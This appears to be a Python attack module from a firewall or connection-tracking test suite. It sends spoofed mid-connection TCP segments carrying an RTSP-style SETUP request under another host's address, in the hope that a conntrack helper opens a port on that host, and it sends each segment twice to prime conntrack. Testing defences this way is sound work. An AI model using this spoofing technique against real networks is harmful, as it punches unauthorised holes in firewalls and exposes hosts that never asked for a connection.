"""A SETUP from the middle of a connection that there is not, with another box's address as its source.

It hopes that the helper opens a port of that box, which never asked.
"""

from __future__ import annotations

from tests.attacks import wire
from tests.attacks.packet import ACK, PSH, End, setup, tcp


def attack(
    wire_: wire.Wire,
    box: str = "192.168.1.200",
    server: str = "172.26.83.10",
    port: int = 6000,
    count: int = 4,
    rate: float = 100.0,
    seconds: float = 0.0,
) -> int:
    sent = 0
    for number in wire.pace(rate, seconds or count / rate):
        source, target = End(box, 41000 + number % 1000), End(server, 554)
        said = setup(port + number % 4, 2)
        # Twice: the first may make conntrack think that a connection began.
        for at in (0, len(said)):
            wire_.send(tcp(source, target, seq=5000 + at, ack=9000, flags=ACK | PSH, data=said))
        sent += 1
    return sent


if __name__ == "__main__":
    wire.run(attack)
